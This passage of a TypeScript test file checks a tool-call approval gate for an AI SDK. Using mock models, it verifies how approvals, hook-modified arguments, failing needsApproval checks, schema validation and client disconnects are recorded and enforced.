    expect(records.map(decided)).toEqual([CHAT_APPROVED, CHAT_APPROVED]);
    expect(model.doGenerateCalls[2]!.prompt.at(-1)?.content).toMatchObject([
      {
        type: "tool-result",
        toolCallId: "c1",
        output: { type: "execution-denied", reason: expect.stringMatching(/^dispatch refused before execution: /) },
      },
    ]);
  });

  it("a call the tool's needsApproval let through unasked keeps the plain record: nobody approved it", async () => {
    const { executed, deploy } = approvalTool((input) => input.env === "prod");
    const { gate, records } = recordingGate();
    const model = new MockLanguageModelV3({
      doGenerate: [v3([call("c1", "deploy", { env: "staging", version: "1.4" })]), v3([text("done")])],
    });
    await generateText({ model, tools: gateTools({ deploy }, gate), prompt: "ship", stopWhen: stepCountIs(3) });
    expect(executed).toEqual([{ env: "staging", version: "1.4" }]);
    expect(records.map(decided)).toEqual([
      { verdict: "allow", ruleId: "hook", ruleSource: "context", matchedPattern: null, reason: null },
    ]);
  });

  it("an approval whose call already has its result in the last message approves nothing, as the SDK reads it: a later call reusing that id is not recorded as approved in the chat", async () => {
    const { executed, deploy } = approvalTool((input) => input.env === "prod");
    const { gate, records } = recordingGate();
    // The model numbers its calls anew: its next call is "c1" again, to staging, which needsApproval lets through.
    const model = new MockLanguageModelV3({
      doGenerate: [v3([call("c1", "deploy", { env: "staging", version: "1.4" })]), v3([text("done")])],
    });
    const messages: ModelMessage[] = [
      { role: "user", content: "ship" },
      {
        role: "assistant",
        content: [
          { type: "tool-call", toolCallId: "c1", toolName: "deploy", input: { env: "prod", version: "1.4" } },
          { type: "tool-approval-request", approvalId: "a1", toolCallId: "c1" },
        ],
      },
      {
        role: "tool",
        content: [
          { type: "tool-approval-response", approvalId: "a1", approved: true },
          { type: "tool-result", toolCallId: "c1", toolName: "deploy", output: { type: "text", value: "deployed" } },
        ],
      },
    ];
    await generateText({ model, tools: gateTools({ deploy }, gate), messages, stopWhen: stepCountIs(3) });
    expect(executed).toEqual([{ env: "staging", version: "1.4" }]);
    expect(records.map(decided)).toEqual([
      { verdict: "allow", ruleId: "hook", ruleSource: "context", matchedPattern: null, reason: null },
    ]);
  });

  it("generateText: a hook's modify after the chat's approval is asked about as modified; the approver's deny keeps it from running", async () => {
    const { executed, deploy } = approvalTool();
    const [channel, approver] = ApprovalChannel.pair(4);
    const { gate, records } = recordingGate(new LoopManagers().withHook(toRc).withAskResolver(channel));
    const tools = gateTools({ deploy }, gate);
    const model = new MockLanguageModelV3({
      doGenerate: [v3([call("c1", "deploy", { env: "prod", version: "1.4" })]), v3([text("not deployed")])],
    });
    const messages = await approvedInChat(tools, model);

    const running = generateText({ model, tools, messages, stopWhen: stepCountIs(3) });
    const parked = (await approver.next()) as PendingAsk;
    expect(parked).toMatchObject({ tool: "deploy", callId: "c1" });
    expect(parked.prompt).toContain('"version": "1.5-rc"');
    expect(parked.prompt).toContain("approved this call with other arguments");
    expect(executed).toEqual([]);
    approver.resolve(parked.id, { type: "deny", reason: "not what I approved" });
    expect((await running).text).toBe("not deployed");
    expect(executed).toEqual([]);
    expect(records).toMatchObject([{ tool: "deploy", verdict: "ask_denied" }]);
  });

  it("generateText: approved again by loopctl's approver, the modified call runs with the arguments that approver saw", async () => {
    const { executed, deploy } = approvalTool();
    const resolver = new SyncAskResolver((a) => a.prompt.includes('"version": "1.5-rc"'));
    const { gate, records } = recordingGate(new LoopManagers().withHook(toRc).withAskResolver(resolver));
    const tools = gateTools({ deploy }, gate);
    const model = new MockLanguageModelV3({
      doGenerate: [v3([call("c1", "deploy", { env: "prod", version: "1.4" })]), v3([text("deployed")])],
    });
    const messages = await approvedInChat(tools, model);
    await generateText({ model, tools, messages, stopWhen: stepCountIs(3) });
    expect(executed).toEqual([{ env: "prod", version: "1.5-rc" }]);
    expect(records.map(decided)).toEqual([
      { verdict: "ask_allowed", ruleId: "ask", ruleSource: "ask_resolver", matchedPattern: null, reason: null },
    ]);
  });

  it("generateText: with no resolver, the modified call is refused and its record says why", async () => {
    const { executed, deploy } = approvalTool();
    const { gate, records } = recordingGate(new LoopManagers().withHook(toRc));
    const tools = gateTools({ deploy }, gate);
    const model = new MockLanguageModelV3({
      doGenerate: [v3([call("c1", "deploy", { env: "prod", version: "1.4" })]), v3([text("not deployed")])],
    });
    const messages = await approvedInChat(tools, model);
    const result = await generateText({ model, tools, messages, stopWhen: stepCountIs(3) });
    expect(result.text).toBe("not deployed");
    expect(executed).toEqual([]);
    expect(records).toMatchObject([{ tool: "deploy", verdict: "ask_unresolved" }]);
    expect(records[0]!.reason).toContain("approved this call with other arguments");
    expect(model.doGenerateCalls[1]!.prompt.at(-1)?.content).toMatchObject([
      { type: "tool-result", toolCallId: "c1", output: { type: "execution-denied" } },
    ]);
  });

  it("a modify that leaves the arguments canonically equal runs on the chat's approval, without a second ask", async () => {
    const { executed, deploy } = approvalTool();
    const reordered: Hook = {
      preToolUse: (c) => {
        const { env, version } = c.input as { env: string; version: string };
        return { type: "modify", input: { version, env } };
      },
    };
    const { gate, records } = recordingGate(new LoopManagers().withHook(reordered).withAskResolver(neverAsked));
    const tools = gateTools({ deploy }, gate);
    const model = new MockLanguageModelV3({
      doGenerate: [v3([call("c1", "deploy", { env: "prod", version: "1.4" })]), v3([text("deployed")])],
    });
    const messages = await approvedInChat(tools, model);
    await generateText({ model, tools, messages, stopWhen: stepCountIs(3) });
    expect(executed).toEqual([{ version: "1.4", env: "prod" }]);
    expect(records.map(decided)).toEqual([
      {
        verdict: "allow_modified",
        ruleId: "hook",
        ruleSource: "context",
        matchedPattern: null,
        reason: expect.stringMatching(/^input modified by hook #0 \(original args [0-9a-f]{16}\)$/),
      },
    ]);
  });

  it("streamText: a hook's modify after the chat's approval does not run unasked", async () => {
    const { executed, deploy } = approvalTool();
    const { gate, records } = recordingGate(new LoopManagers().withHook(toRc));
    const tools = gateTools({ deploy }, gate);
    const model = new MockLanguageModelV3({
      doStream: [v3Stream([call("c1", "deploy", { env: "prod", version: "1.4" })]), v3Stream([text("not deployed")])],
    });
    const first = streamText({ model, tools, prompt: "ship", stopWhen: stepCountIs(3) });
    const request = (await first.content).find((part) => part.type === "tool-approval-request");
    expect(request).toMatchObject({ toolCall: { toolCallId: "c1" } });
    const messages: ModelMessage[] = [
      { role: "user", content: "ship" },
      ...(await first.response).messages,
      { role: "tool", content: [{ type: "tool-approval-response", approvalId: request!.approvalId, approved: true }] },
    ];
    const second = streamText({ model, tools, messages, stopWhen: stepCountIs(3) });
    expect(await second.text).toBe("not deployed");
    expect(executed).toEqual([]);
    expect(records).toMatchObject([{ tool: "deploy", verdict: "ask_unresolved" }]);
  });

  it("a call the SDK let through unasked, modified by a hook into one the tool's needsApproval wants approved, is asked about", async () => {
    const { executed, deploy } = approvalTool((input) => input.env === "prod");
    const toProd: Hook = { preToolUse: (c) => ({ type: "modify", input: { ...(c.input as object), env: "prod" } }) };
    const asked: PendingAsk[] = [];
    const resolver = new SyncAskResolver((a) => (asked.push(a), false));
    const { gate, records } = recordingGate(new LoopManagers().withHook(toProd).withAskResolver(resolver));
    const model = new MockLanguageModelV3({
      doGenerate: [v3([call("c1", "deploy", { env: "staging", version: "1.4" })]), v3([text("done")])],
    });
    const result = await generateText({
      model,
      tools: gateTools({ deploy }, gate),
      prompt: "ship",
      stopWhen: stepCountIs(3),
    });
    expect(result.content.some((part) => part.type === "tool-approval-request")).toBe(false);
    expect(executed).toEqual([]);
    expect(asked).toHaveLength(1);
    expect(asked[0]!.prompt).toContain('"env": "prod"');
    expect(records).toMatchObject([{ tool: "deploy", verdict: "ask_denied" }]);
  });
});

describe("gateTools: a needsApproval that fails at the call is decided through the gate", () => {
  /** What a call's record holds besides its digests and time. */
  const decided = (r: GateDecision) => ({
    verdict: r.verdict,
    ruleId: r.ruleId,
    ruleSource: r.ruleSource,
    matchedPattern: r.matchedPattern,
    reason: r.reason,
  });
  const HOOK_FAILED = (why: string) => ({
    verdict: "deny",
    ruleId: "hook",
    ruleSource: "context",
    matchedPattern: null,
    reason: `hook ai-sdk:needsApproval failed: ${why}`,
  });

  /**
   * A deploy tool whose `needsApproval` is a getter: it answers the SDK's reads with a function
   * that says whether `env` needs approval, and throws once `broken` is set (which that function
   * sets: the SDK has asked it by the time the tool's execute runs).
   */
  function fragileTool() {
    const executed: unknown[] = [];
    const state = { broken: false };
    const deploy = tool({
      description: "Deploy a version",
      inputSchema: z.object({ env: z.string(), version: z.string() }),
      execute: async (input: { env: string; version: string }) => (executed.push(input), "deployed"),
    });
    Object.defineProperty(deploy, "needsApproval", {
      enumerable: true,
      get() {
        if (state.broken) throw new Error("the policy service is gone");
        return (input: { env: string }) => ((state.broken = true), input.env === "prod");
      },
    });
    return { executed, state, deploy };
  }

  /** The outputs the model read in request `n`. */
  const outputs = (model: MockLanguageModelV3, n: number) =>
    model.doGenerateCalls[n]!.prompt.flatMap((message) =>
      message.role === "tool" ? message.content.map((part) => part.type === "tool-result" && part.output) : [],
    );

  it("a getter that throws when the gate reads it refuses a call the SDK let through unasked, with one record saying why", async () => {
    const { executed, deploy } = fragileTool();
    const { gate, records } = recordingGate();
    const model = new MockLanguageModelV3({
      doGenerate: [v3([call("c1", "deploy", { env: "staging", version: "1.4" })]), v3([text("not deployed")])],
    });
    const result = await generateText({
      model,
      tools: gateTools({ deploy }, gate),
      prompt: "ship",
      stopWhen: stepCountIs(3),
    });
    expect(result.text).toBe("not deployed");
    expect(executed).toEqual([]);
    expect(records.map(decided)).toEqual([
      HOOK_FAILED("tool 'deploy': needsApproval cannot be read: the policy service is gone"),
    ]);
    expect(outputs(model, 1)).toEqual([
      { type: "execution-denied", reason: "Permission denied: pre-tool-use hook failed for tool 'deploy'" },
    ]);
  });

  it("a getter that throws when the gate reads it refuses a call the chat's user approved: it never runs", async () => {
    const { executed, state, deploy } = fragileTool();
    const { gate, records } = recordingGate();
    const tools = gateTools({ deploy }, gate);
    const model = new MockLanguageModelV3({
      doGenerate: [v3([call("c1", "deploy", { env: "prod", version: "1.4" })]), v3([text("not deployed")])],
    });
    const first = await generateText({ model, tools, prompt: "ship", stopWhen: stepCountIs(3) });
    const request = first.content.find((part) => part.type === "tool-approval-request");
    expect(request).toBeDefined();
    expect(records).toEqual([]);
    // The SDK reads needsApproval again as it collects the approval, then the gate reads it.
    state.broken = false;
    const second = await generateText({
      model,
      tools,
      messages: answering(first, request!.approvalId, true),
      stopWhen: stepCountIs(3),
    });
    expect(second.text).toBe("not deployed");
    expect(executed).toEqual([]);
    expect(records.map(decided)).toEqual([
      HOOK_FAILED("tool 'deploy': needsApproval cannot be read: the policy service is gone"),
    ]);
  });

  it("a needsApproval that throws on the arguments a hook changed refuses the call, with one record saying why", async () => {
    const executed: unknown[] = [];
    const deploy = tool({
      description: "Deploy a version",
      inputSchema: z.object({ env: z.string(), version: z.string() }),
      needsApproval: async (input: { env: string }) => {
        if (input.env === "prod") throw new Error("no policy for prod");
        return false;
      },
      execute: async (input: { env: string; version: string }) => (executed.push(input), "deployed"),
    });
    const toProd: Hook = { preToolUse: (c) => ({ type: "modify", input: { ...(c.input as object), env: "prod" } }) };
    const { gate, records } = recordingGate(new LoopManagers().withHook(toProd));
    const model = new MockLanguageModelV3({
      doGenerate: [v3([call("c1", "deploy", { env: "staging", version: "1.4" })]), v3([text("not deployed")])],
    });
    await generateText({ model, tools: gateTools({ deploy }, gate), prompt: "ship", stopWhen: stepCountIs(3) });
    expect(executed).toEqual([]);
    expect(records.map(decided)).toEqual([HOOK_FAILED("tool 'deploy': its needsApproval failed: no policy for prod")]);
  });
});

describe("gateTools: what the model reads of a call a hook modified", () => {
  it("the tool's toModelOutput gets the arguments the tool ran with, not the model's; a later call under the same id gets its own", async () => {
    const toRc: Hook = {
      preToolUse: (c) =>
        (c.input as { version: string }).version === "1.4"
          ? { type: "modify", input: { ...(c.input as object), version: "1.5-rc" } }
          : { type: "allow" },
    };
    const executed: unknown[] = [];
    const { gate, records } = recordingGate(new LoopManagers().withHook(toRc));
    const tools = gateTools(
      {
        deploy: tool({
          description: "Deploy a version",
          inputSchema: z.object({ version: z.string() }),
          execute: async (input) => (executed.push(input), { ok: true }),
          toModelOutput: ({ input }) => ({ type: "text", value: `deployed ${input.version}` }),
        }),
      },
      gate,
    );
    // A model that numbers its calls anew each step: the second step's c1 is another call.
    const model = new MockLanguageModelV3({
      doGenerate: [
        v3([call("c1", "deploy", { version: "1.4" })]),
        v3([call("c1", "deploy", { version: "2.0" })]),
        v3([text("done")]),
      ],
    });
    await generateText({ model, tools, prompt: "ship", stopWhen: stepCountIs(3) });
    expect(executed).toEqual([{ version: "1.5-rc" }, { version: "2.0" }]);
    expect(records.map((r) => r.verdict)).toEqual(["allow_modified", "allow"]);
    const outputs = (n: number) =>
      model.doGenerateCalls[n]!.prompt.flatMap((message) =>
        message.role === "tool" ? message.content.map((part) => part.type === "tool-result" && part.output) : [],
      );
    expect(outputs(1)).toEqual([{ type: "text", value: "deployed 1.5-rc" }]);
    expect(outputs(2)).toEqual([
      { type: "text", value: "deployed 1.5-rc" },
      { type: "text", value: "deployed 2.0" },
    ]);
  });
});

describe("gateTools: a call refused as the tool cannot be described as the model is shown it lands its one record", () => {
  const SHA256 = (json: string): string => createHash("sha256").update(json).digest("hex");

  /** One generateText step whose model, once the SDK has sent it the tools, breaks them in place (`edit`) and calls `name`. */
  async function stepBreaking(tools: ToolSet, name: string, edit: () => void) {
    const { gate, records } = recordingGate();
    const model = new MockLanguageModelV3({
      doGenerate: async () => (edit(), v3([call("c1", name, { command: "ls" })])),
    });
    const result = await generateText({ model, tools: gateTools(tools, gate), prompt: "go", stopWhen: stepCountIs(1) });
    const error = result.steps[0]!.content.find((part) => part.type === "tool-error")?.error;
    expect(error).toBeInstanceOf(AiSdkToolError);
    return { records, error: error as AiSdkToolError };
  }

  /** The one record of a call of `name` (arguments `{ command: "ls" }`) refused before the gate, for `reason`. */
  const refusedRecord = (name: string, reason: string) => ({
    tool: name,
    argsDigest: expect.stringMatching(/^[0-9a-f]{16}$/),
    argsSha256: SHA256('{"command":"ls"}'),
    verdict: "deny",
    ruleId: "schema",
    ruleSource: "engine",
    matchedPattern: null,
    reason: `gateTools refused the call: ${reason}`,
    ts: expect.any(Number),
  });

  it("an input schema edited into one with no JSON Schema form: one deny record, AiSdkToolError to the SDK, never run", async () => {
    const ran: unknown[] = [];
    const schema: JSONSchema7 & { properties: NonNullable<JSONSchema7["properties"]> } = {
      type: "object",
      properties: { command: { type: "string" } },
    };
    const shell = tool({
      description: "Run a command",
      inputSchema: jsonSchema<{ command: string }>(schema),
      execute: async (input) => (ran.push(input), "ok"),
    });
    const { records, error } = await stepBreaking({ shell }, "shell", () => {
      schema.properties["self"] = schema;
    });
    expect(ran).toEqual([]);
    expect(error).toMatchObject({ code: "AI_SDK_TOOL", tool: "shell" });
    expect(records).toEqual([refusedRecord("shell", "tool 'shell': its input schema has no JSON Schema form")]);
  });

  it("a provider tool whose args were edited into something that is not JSON: one deny record, AiSdkToolError, never run", async () => {
    const ran: unknown[] = [];
    const args: Record<string, unknown> = {};
    const bash = tool({
      type: "provider",
      id: "anthropic.bash_20241022",
      args,
      inputSchema: z.object({ command: z.string() }),
      execute: async (input: { command: string }) => (ran.push(input), "ok"),
    });
    const { records, error } = await stepBreaking({ bash }, "bash", () => {
      args["self"] = args;
    });
    expect(ran).toEqual([]);
    expect(records).toEqual([refusedRecord("bash", error.message)]);
    expect(error.message).toMatch(/^tool 'bash': its provider tool id and args are not JSON: /);
  });
});

describe("gateTools: each call's arguments are read once and checked once per check", () => {
  /** Arguments whose one field is a getter that counts its reads. */
  function counted(): { input: { text: string }; reads: () => number } {
    let reads = 0;
    const input = {
      get text(): string {
        reads++;
        return "hi";
      },
    };
    return { input, reads: () => reads };
  }

  it("the model's arguments are read once per call: the tool's check, the hooks, the approval hook, the record and the tool all go on with that read", async () => {
    const allow: Hook = { preToolUse: () => ({ type: "allow" }) };
    const modify: Hook = { preToolUse: () => ({ type: "modify", input: { text: "changed" } }) };
    const executed: unknown[] = [];
    const inputSchema = z.object({ text: z.string() });
    const execute = async (input: { text: string }) => (executed.push(input), input.text);
    const cases = [
      ["no hook", new LoopManagers(), tool({ description: "Echo", inputSchema, execute })],
      ["a hook that allows", new LoopManagers().withHook(allow), tool({ description: "Echo", inputSchema, execute })],
      [
        "a hook that modifies",
        new LoopManagers().withHook(modify),
        tool({ description: "Echo", inputSchema, execute }),
      ],
      [
        "the SDK's needsApproval",
        new LoopManagers(),
        tool({ description: "Echo", inputSchema, execute, needsApproval: () => false }),
      ],
    ] as const;
    for (const [name, managers, echo] of cases) {
      const { gate, records } = recordingGate(managers);
      const tools = gateTools({ echo }, gate);
      const { input, reads } = counted();
      const output = await tools.echo.execute!(input, { toolCallId: "c1", messages: [] });
      expect(isToolRefusal(output), name).toBe(false);
      expect(records, name).toHaveLength(1);
      expect(reads(), name).toBe(1);
    }
    expect(executed).toEqual([{ text: "hi" }, { text: "hi" }, { text: "changed" }, { text: "hi" }]);
  });

  /** A Standard Schema (not zod) of `{ n: number }` whose validate counts its runs, answering at once or as a promise. */
  function countingSchema(answers: "sync" | "async") {
    const runs: unknown[] = [];
    const check = (value: unknown) => {
      runs.push(value);
      const n = (value as { n?: unknown } | null)?.n;
      return typeof n === "number" && n > 0 ? { value } : { issues: [{ message: "n must be positive", path: ["n"] }] };
    };
    const schema = {
      "~standard": {
        version: 1,
        vendor: "hand-made",
        validate: (value: unknown) => (answers === "sync" ? check(value) : Promise.resolve().then(() => check(value))),
        jsonSchema: { input: () => ({ type: "object", properties: { n: { type: "number" } }, required: ["n"] }) },
      },
    } as const;
    return { schema, runs };
  }

  for (const answers of ["sync", "async"] as const) {
    it(`a schema whose own check answers ${answers === "sync" ? "at once" : "only asynchronously"} checks each call's arguments once, and a hook's changed arguments once more`, async () => {
      const { schema, runs } = countingSchema(answers);
      const executed: unknown[] = [];
      const count = tool({
        description: "Counts",
        inputSchema: schema as unknown as z.ZodType<{ n: number }>,
        execute: async (input: { n: number }) => (executed.push(input), input.n),
      });
      const { gate, records } = recordingGate();
      const tools = gateTools({ count }, gate);
      expect(await tools.count.execute!({ n: 2 }, { toolCallId: "c1", messages: [] })).toBe(2);
      expect(runs).toEqual([{ n: 2 }]);
      // What the check refuses is refused after that one run (what an asynchronous check does not pass is
      // checked by the JSON Schema, without running the check again).
      const refused = await tools.count.execute!({ n: "two" } as never, { toolCallId: "c2", messages: [] });
      expect(isToolRefusal(refused)).toBe(true);
      expect(runs).toEqual([{ n: 2 }, { n: "two" }]);
      expect(records[1]).toMatchObject({ verdict: "deny", ruleId: "schema" });
      if (answers === "sync") expect(records[1]!.reason).toBe("invalid arguments: $.n: n must be positive");

      runs.length = 0;
      const { gate: modifying, records: modified } = recordingGate(
        new LoopManagers().withHook({ preToolUse: () => ({ type: "modify", input: { n: 7 } }) }),
      );
      const changed = gateTools({ count }, modifying);
      expect(await changed.count.execute!({ n: 2 }, { toolCallId: "c3", messages: [] })).toBe(7);
      expect(runs).toEqual([{ n: 2 }, { n: 7 }]);
      expect(modified).toMatchObject([{ verdict: "allow_modified" }]);
      expect(executed).toEqual([{ n: 2 }, { n: 7 }]);
    });
  }
});

describe("gateTools: an application that walks away from a run while a call is parked", () => {
  /** A gate that asks about every call through `approver`'s channel, and a tool that notes the signal each call got. */
  function walkAwayHarness() {
    const [channel, approver] = ApprovalChannel.pair(8);
    const { executed, records, gate, tools } = harness(new LoopManagers().withHook(ask).withAskResolver(channel));
    const gated = gateTools({ deploy: tools.deploy }, gate);
    const signals: (AbortSignal | undefined)[] = [];
    const deploy = {
      ...gated.deploy,
      execute: (input: { env: string; version: string }, options: ToolExecutionOptions) => {
        signals.push(options.abortSignal);
        return gated.deploy.execute!(input, options);
      },
    };
    return { approver, executed, records, signals, tools: { deploy } };
  }

  type Consumer = "fullStream" | "textStream" | "toUIMessageStream()" | "toUIMessageStreamResponse()'s body";
  const consumers: readonly Consumer[] = [
    "fullStream",
    "textStream",
    "toUIMessageStream()",
    "toUIMessageStreamResponse()'s body",
  ];

  for (const consumer of consumers) {
    it(`streamText: cancelling ${consumer} tells the tool nothing; an abortSignal the application aborts then withdraws the ask, with one cancelled record`, async () => {
      for (const given of [false, true]) {
        const { approver, executed, records, signals, tools } = walkAwayHarness();
        const walkedAway = new AbortController();
        const model = new MockLanguageModelV3({
          doStream: [v3Stream([call("s1", "deploy", { env: "prod", version: "1" })]), v3Stream([text("never")])],
        });
        const result = streamText({
          model,
          tools,
          prompt: "go",
          stopWhen: stepCountIs(3),
          ...(given ? { abortSignal: walkedAway.signal } : {}),
        });
        const stream: ReadableStream<unknown> =
          consumer === "fullStream"
            ? result.fullStream
            : consumer === "textStream"
              ? result.textStream
              : consumer === "toUIMessageStream()"
                ? result.toUIMessageStream()
                : result.toUIMessageStreamResponse().body!;
        const reader = stream.getReader();
        const reading = reader.read().catch(() => undefined);
        const parked = (await approver.next()) as PendingAsk;
        await reader.cancel(new Error("the client went away"));
        await reading;
        await flush();
        const label = `${consumer}, abortSignal ${given ? "given" : "not given"}`;
        // The SDK: the cancelled stream is a branch of the result's own, which goes on; the tool's signal is
        // the application's (none when it gave none), and the cancel aborts nothing.
        expect(signals, label).toHaveLength(1);
        if (given) expect(signals[0]?.aborted, label).toBe(false);
        else expect(signals[0], label).toBeUndefined();
        expect([approver.pending, records.length], label).toEqual([1, 0]);
        if (given) {
          walkedAway.abort(new Error("the client went away"));
          expect(await approver.ended(parked.id), label).toEqual({ type: "withdrawn", reason: "unknown" });
          await until(() => records.length === 1);
          expect(records, label).toMatchObject([{ verdict: "cancelled", reason: "cancelled while awaiting approval" }]);
          expect(approver.resolve(parked.id, { type: "approve" }), label).toBe(false);
        } else {
          // Nothing can withdraw it: it waits for an answer (or its deadline), and ends with that answer's record.
          expect(approver.resolve(parked.id, { type: "deny", reason: "nobody is there" }), label).toBe(true);
          await until(() => records.length === 1);
          expect(records, label).toMatchObject([{ verdict: "ask_denied" }]);
        }
        await flush();
        expect(records, label).toHaveLength(1);
        expect(executed, label).toEqual([]);
        expect(model.doStreamCalls, label).toHaveLength(1);
      }
    });
  }

  /** An HTTP server on a free local port whose handler is `handle`; closed by the returned function. */
  async function serve(handle: (req: IncomingMessage, res: ServerResponse) => void): Promise<{
    readonly url: string;
    readonly close: () => Promise<void>;
  }> {
    const server = createServer(handle);
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    const { port } = server.address() as AddressInfo;
    return {
      url: `http://127.0.0.1:${port}/`,
      close: () =>
        new Promise<void>((resolve) => {
          server.closeAllConnections();
          server.close(() => resolve());
        }),
    };
  }

  /** A request whose response is read as it comes; `walkAway` destroys its socket, as a client that went away. */
  function open(url: string): { readonly body: Promise<string>; readonly walkAway: () => void } {
    let walkAway = (): void => {};
    const body = new Promise<string>((resolve, reject) => {
      const req = httpRequest(url, { method: "POST", agent: false });
      walkAway = () => req.destroy();
      req.on("error", () => resolve("(walked away)"));
      req.on("response", (res) => {
        let text = "";
        res.setEncoding("utf8");
        res.on("data", (chunk: string) => (text += chunk));
        res.on("end", () => resolve(text));
        res.on("error", reject);
        res.on("aborted", () => resolve("(walked away)"));
      });
      req.end();
    });
    return { body, walkAway: () => walkAway() };
  }

  it("streamText over HTTP: a server that aborts abortSignal when the response closes withdraws the asks of a client that went away; one that stays is served as before", async () => {
    const { approver, executed, records, tools } = walkAwayHarness();
    const model = new MockLanguageModelV3({
      doStream: [
        v3Stream([call("s1", "deploy", { env: "prod", version: "1" })]),
        v3Stream([text("shipped")]),
        v3Stream([call("s2", "deploy", { env: "prod", version: "2" })]),
        v3Stream([text("never")]),
      ],
    });
    const server = await serve((_req, res) => {
      const walkedAway = new AbortController();
      res.once("close", () => walkedAway.abort(new Error("the client went away")));
      void streamText({
        model,
        tools,
        prompt: "ship",
        abortSignal: walkedAway.signal,
        stopWhen: stepCountIs(3),
      }).pipeUIMessageStreamToResponse(res);
    });
    try {
      // A client that stays: its call is approved and runs, and the response ends as without the signal.
      const staying = open(server.url);
      const first = (await approver.next()) as PendingAsk;
      expect(approver.resolve(first.id, { type: "approve" })).toBe(true);
      const body = await staying.body;
      expect(body).toContain('"type":"tool-output-available"');
      expect(body).toContain("shipped");
      expect(body).toContain('"type":"finish"');
      await flush();
      expect(records).toMatchObject([{ verdict: "ask_allowed" }]);
      expect(executed).toEqual([{ env: "prod", version: "1" }]);

      // A client that goes away while its call is parked: the ask is withdrawn, one cancelled record, never run.
      const leaving = open(server.url);
      const second = (await approver.next()) as PendingAsk;
      expect(second.callId).toBe("s2");
      leaving.walkAway();
      expect(await approver.ended(second.id)).toEqual({ type: "withdrawn", reason: "unknown" });
      await until(() => records.length === 2);
      expect(records[1]).toMatchObject({
        tool: "deploy",
        verdict: "cancelled",
        reason: "cancelled while awaiting approval",
      });
      expect(approver.resolve(second.id, { type: "approve" })).toBe(false);
      await flush();
      expect(records).toHaveLength(2);
      expect(executed).toEqual([{ env: "prod", version: "1" }]);
      expect(model.doStreamCalls).toHaveLength(3);
    } finally {
      await server.close();
    }
  });

  it("generateText over HTTP: a handler that aborts abortSignal when the response closes withdraws the ask of a client that went away", async () => {
    const { approver, executed, records, tools } = walkAwayHarness();
    const model = new MockLanguageModelV3({
      doGenerate: [v3([call("c1", "deploy", { env: "prod", version: "1" })]), v3([text("never")])],
    });
    let ended: Promise<string> = Promise.resolve("no request");
    const server = await serve((_req, res) => {
      const walkedAway = new AbortController();
      res.once("close", () => walkedAway.abort(new Error("the client went away")));
      ended = generateText({
        model,
        tools,
        prompt: "ship",
        abortSignal: walkedAway.signal,
        stopWhen: stepCountIs(3),
      }).then(
        (result) => (res.end(result.text), "resolved"),
        (error: unknown) => (res.end(), String(error)),
      );
    });
    try {
      const leaving = open(server.url);
      const parked = (await approver.next()) as PendingAsk;
      leaving.walkAway();
      expect(await approver.ended(parked.id)).toEqual({ type: "withdrawn", reason: "unknown" });
      expect(await ended).toMatch(/the client went away/);
      await until(() => records.length === 1);
      expect(records).toMatchObject([
        { tool: "deploy", verdict: "cancelled", reason: "cancelled while awaiting approval" },
      ]);
      expect(approver.resolve(parked.id, { type: "approve" })).toBe(false);
      expect(executed).toEqual([]);
      expect(model.doGenerateCalls).toHaveLength(1);
    } finally {
      await server.close();
    }
  });
});
